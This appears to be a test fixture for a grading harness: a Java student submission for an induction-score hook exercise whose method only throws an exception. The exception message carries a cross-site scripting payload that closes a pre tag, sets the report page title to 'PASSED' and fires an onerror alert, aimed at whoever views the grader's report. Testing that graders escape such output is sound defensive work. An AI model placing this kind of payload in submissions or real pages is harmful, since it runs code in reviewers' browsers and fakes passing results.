// wants: to run in the browser of whoever reads its report
// verdict: ERRORED
// says: <script>document
package student;

import ai.djl.ndarray.NDArray;
import hookworks.exercises.Hooks;
import hookworks.lens.hooks.HookPoint;

public class MyHooks implements Hooks {
    @Override
    public NDArray inductionScoreHook(NDArray pattern, HookPoint hook, NDArray store) {
        throw new IllegalStateException("</pre><script>document.title = 'PASSED'</script><img src=x onerror=alert(1)>");
    }
}
